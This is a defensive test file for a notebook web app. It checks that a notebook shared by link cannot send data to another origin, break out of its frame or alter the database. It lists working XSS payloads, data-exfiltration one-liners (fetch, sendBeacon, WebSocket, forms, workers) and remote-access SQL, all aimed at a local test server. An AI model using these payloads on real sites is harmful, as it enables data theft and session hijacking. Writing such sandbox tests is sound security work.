import {createServer, type Server} from "node:http";
import type {AddressInfo} from "node:net";
import type {Browser} from "playwright-core";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {toLink} from "../../src/notebook/link.js";
import type {Cell} from "../../src/notebook/notebook.js";
import {toPage} from "../../src/notebook/to-page.js";
import {returnBrowser, takeBrowser} from "./browser.js";
import {NotebookReader} from "./notebook-reader.js";
import {poll} from "./story.js";

let browser: Browser;
let reader: NotebookReader;
let elsewhere: Server;
let origin: string;
/** What a server of another origin has received. */
const received: string[] = [];

/** Ways in which a script could tell somebody else what it was given. */
const leaks = (origin: string): string[] => [
  `await fetch("${origin}/fetch").catch(() => 0)`,
  `await fetch("${origin}/no-cors", {mode: "no-cors"}).catch(() => 0)`,
  `navigator.sendBeacon("${origin}/beacon", "rows")`,
  `new WebSocket("${origin.replace("http", "ws")}/socket")`,
  `new EventSource("${origin}/events")`,
  `new Image().src = "${origin}/image"`,
  `document.body.append(Object.assign(document.createElement("script"), {src: "${origin}/script.js"}))`,
  `document.body.append(Object.assign(document.createElement("iframe"), {src: "${origin}/frame"}))`,
  `document.body.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: "${origin}/style.css"}))`,
  `document.body.append(Object.assign(document.createElement("link"), {rel: "prefetch", href: "${origin}/prefetch"}))`,
  `document.body.insertAdjacentHTML("beforeend", '<form action="${origin}/form" method="post"><input name="a"></form>'); document.forms[0].submit()`,
  `open("${origin}/popup")`,
  `new Worker(URL.createObjectURL(new Blob(['fetch("${origin}/worker")'])))`,
  `const http = new XMLHttpRequest(); http.open("GET", "${origin}/xhr"); http.send()`
];

/** What only a script that has left its frame could do. */
const intrusions = [
  "parent.document.title = 'taken'",
  "top.location = 'about:blank'",
  "localStorage.setItem('a', 'b')",
  "document.cookie = 'a=b'",
  "indexedDB.open('a')"
];

const queries = (origin: string): string[] => [
  `SELECT * FROM read_csv('${origin}/a.csv')`,
  `SELECT * FROM '${origin}/a.parquet'`,
  `ATTACH '${origin}/a.duckdb' AS a`,
  `INSTALL httpfs FROM '${origin}'`,
  `LOAD '${origin}/a.duckdb_extension.wasm'`,
  `COPY (SELECT 1) TO '${origin}/a.csv'`,
  "SET enable_external_access = true",
  "COMMIT; CREATE TABLE places (a INTEGER)",
  "DROP TABLE places",
  "CREATE TABLE left_behind AS SELECT 1 AS a"
];

const hostileText = (origin: string): string => `<script>fetch("${origin}/text")</script>

<img src="${origin}/img" onerror="document.title = 'taken'">

![picture](${origin}/picture)

[a link](javascript:document.title='taken') and [another](data:text/html,<script>1</script>)

<iframe src="${origin}/frame"></iframe>`;

async function linkTo(cells: readonly Cell[]): Promise<string> {
  return `#notebook=${await toLink(toPage({title: "A gift", description: "", cells}))}`;
}

const script = (code: string, at: number): Cell => ({
  id: `s${at}`,
  kind: "script",
  code: `try { ${code} } catch (error) { display(String(error)) }\ndisplay("ran ${at}")`
});

beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    received.push(`${request.method} ${request.url}`);
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.end("a,b\n1,2\n");
  });
  elsewhere.on("upgrade", ({url}, socket) => {
    received.push(`upgrade ${url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  origin = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  // The listener does hear: a request from outside the page arrives.
  await fetch(`${origin}/heard`);
  expect(received).toEqual(["GET /heard"]);
  received.length = 0;
  browser = await takeBrowser();
  reader = await NotebookReader.start(browser);
});
afterAll(async () => {
  await returnBrowser();
  elsewhere.close();
});

describe("a notebook that means harm, in a link", () => {
  it("shows its text as text", async () => {
    await reader.open(await linkTo([{id: "t", kind: "text", text: hostileText(origin)}]));
    const text = reader.cell(0).locator(".cell-prose");
    expect(await text.textContent()).toContain("<script>");
    expect(await text.locator("script, img, iframe, [onerror]").count()).toBe(0);
    // A picture is only a link to it; nothing else is one.
    const links = text.locator("a");
    expect(await links.evaluateAll((all) => all.map((a) => a.getAttribute("href")))).toEqual([
      `${origin}/picture`
    ]);
    expect(await reader.page.title()).toContain("A gift");
    expect(received).toEqual([]);
  });

  it("reaches nothing with its queries, and leaves nothing behind", async () => {
    const cells = queries(origin).map((sql, i): Cell => ({
      id: `q${i}`,
      kind: "sql",
      name: `q${i}`,
      sql
    }));
    await reader.open(await linkTo(cells));
    await poll(() => reader.page.locator(".cell .problem").count()).toBe(cells.length);
    const after = await reader.add("Query", "SELECT count(*) > 20 AS whole FROM places");
    await poll(() => reader.rows(after)).toEqual([["true"]]);
    const left = await reader.add("Query", "SELECT * FROM left_behind");
    await poll(() => left.getByRole("alert").textContent()).toContain("does not exist");
    expect(received).toEqual([]);
  });

  it("shows a column's name as text", async () => {
    const sql = `SELECT 1 AS "<img src=${origin}/name onerror=alert(1)>", '<script>1</script>' AS b`;
    await reader.open(await linkTo([{id: "q", kind: "sql", name: "q", sql}]));
    await poll(() => reader.cell(0).locator("thead").textContent()).toContain("<img src=");
    await reader.cell(0).getByRole("button", {name: "Chart"}).click();
    await reader.cell(0).locator(".chart-settings select").first().waitFor();
    expect(await reader.page.locator("#notebook img, #notebook script").count()).toBe(0);
    expect(received).toEqual([]);
  });

  it("runs no script before the reader has said so", async () => {
    await reader.open(await linkTo([...leaks(origin), ...intrusions].map(script)));
    await poll(() => reader.page.locator(".cell-asks").count()).toBe(
      leaks(origin).length + intrusions.length
    );
    expect(await reader.page.locator("iframe").count()).toBe(0);
    expect(received).toEqual([]);
  });

  it("reaches nothing even then", async () => {
    await reader.page
      .getByRole("button", {name: "Run the scripts of this notebook"})
      .first()
      .click();
    for (const [at] of [...leaks(origin), ...intrusions].entries()) {
      const cell = reader.cell(at);
      // A script either has run to its end or was stopped by its own frame being led away.
      await poll(() => cell.getAttribute("data-status")).toMatch(/done|failed/);
    }
    // What a frame asks for in the background has time to arrive.
    await reader.page.waitForTimeout(1500);
    expect(received).toEqual([]);
    expect(await reader.page.title()).toContain("A gift");
    expect(reader.context.pages().length).toBe(1);
    expect(await reader.page.evaluate("document.cookie")).toBe("");
    expect(await reader.page.evaluate("localStorage.length")).toBe(0);
  });

  it("cannot lead the page away, nor stay when it is stopped", async () => {
    await reader.open(
      await linkTo([
        {id: "s", kind: "script", code: `display(1); location.href = "${origin}/away"; for (;;);`}
      ])
    );
    const cell = reader.cell(0);
    await cell.getByRole("button", {name: "Run the scripts"}).click();
    await poll(() => cell.locator(".cell-state").textContent()).toMatch(/^Running/);
    await cell.getByRole("button", {name: "Stop"}).click();
    await poll(() => cell.getByRole("alert").textContent()).toContain("stopped");
    expect(await reader.page.locator("iframe").count()).toBe(0);
    expect(received).toEqual([]);
  });

  it("is refused in a sentence when it is broken, and the page lives on", async () => {
    await reader.open("#notebook=eJztV9tu");
    await poll(() => reader.page.locator(".toast").textContent()).toContain("This link is broken");
    expect(await reader.page.locator(".cell").count()).toBeGreaterThan(0);
  });
});
